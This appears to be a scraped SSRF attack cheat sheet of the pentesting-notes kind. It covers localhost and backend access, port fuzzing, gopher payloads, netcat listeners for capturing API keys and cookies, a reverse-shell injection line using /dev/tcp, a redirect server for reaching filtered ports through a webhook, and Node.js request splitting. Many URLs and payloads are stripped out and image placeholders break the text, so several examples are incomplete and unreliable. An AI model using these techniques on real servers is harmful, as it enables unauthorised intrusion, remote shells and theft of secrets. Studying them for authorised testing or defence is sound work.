SSRF (Server-Side Request Forgery)

Last modified: 2023-09-09


SSRF is a type of exploit where an attacker abuses the functionality of a server causing it to access or manipulate information in the realm of that server that would otherwise not be directly accessibleto the attacker. SSRF is an attack against a server.

Capture Tools

If you want to capture the SSRF affections, there are some online tools available for capturing SSRF.

Or we can simply open local web server if local machine accepts external requests.python3 -m http.server 8000

HTTP (http://)

We may be able to use another server in the target machine.
For example, pass the localhost URL to the GET parameters.
Also These are available in POST params.

# Localhost

# Backend URL (e.g. 192.168.0.x)

# Server status

# At sign

Local Port Enumeration

We can find which port is opening by fuzzing port number.

seq 1 65535 | ffuf -u -w -

Gopher (gopher://)

We may be able to use gopher:// scheme.


We can use Gopherus to create a payload automatically.


At first, we need to prepare a payload for sending message to victim user.

gopher:// FROM:<>
Hi, I'm not hacker.

The payload above can be URL encoded with tools such as CyberChef. Then the encoded payload is as follow.


We can use it to SSRF.


Listen HTTP Request

If the website is vulnerable to SSRF, we can fetch sensitive information in HTTP request by sniffing.First off, start a listener in local machine.

sudo nc -lvp 80

Then send request that is affected bySSRF.

See the HTTP request in local machine.
We might beable to fetch the sensitive data such as API key, Cookie, etc.

OS Command Injection

# Reverse Shell
?url=;bash -c "bash -i >& /dev/tcp/ 0>&1"

Admin Operations

We may be able to operate significant stuff as the admin user via local server.

# Localhost

# Backend URL (e.g. 192.168.0.x)

Whitelisted URL Bypass

If the target website allows only the whitelisted URL, we can use them.
Assume only "" is allowed by the target website.


Open Redirect


AWS Instances


Hostname Bypass

1. Add Target Domain to /etc/hosts in Local Machine


Restart the hostname service to apply the configuration imediately.

sudo systemctl restart systemd-hostnamed2. Access to the Domain We Specified**

API Request

We might be able to get information from an API endpoint that is not accessible normally.


Reveal Filtered Websites via Monitoring Tools (Webhook)

Some web apps may have monitoring tools that check the health of external websites.
You may be able to reveal hidden contents of the target via the monitor.
First off, create a redirect server using Python. Here it’s named “”.

import sys
from http.server import HTTPServer, BaseHTTPRequestHandler

class Redirect(BaseHTTPRequestHandler):
  def do_GET(self):
      self.send_header('Location', sys.argv[1])

HTTPServer(("", 8000), Redirect).serve_forever()After creating, run the following command.
Assume that the filtered port is 3000 (nmap will reveal it).


And start listener for receiving the POST request of the webhook from the target website.

nc -lvnp 4444

Now set the configuration of the webhook. For example:

Payload URL: http://<local-ip>:4444/
Monitored URL: http://<local-ip>:8000/

You can see the contents of the filtered app.

Request Splitting


It is the vulnerability of the Node.js http.get module, which allowsattacker to insert HTTP headers and bodies by splitting request.
First off, prepare HTTPheaders and body as below:


POST /update HTTP1.1
Content-Length: 28



Then manipulate it forsending to target.

# \u0120: space
#\u010D: \r
# \u010A: \n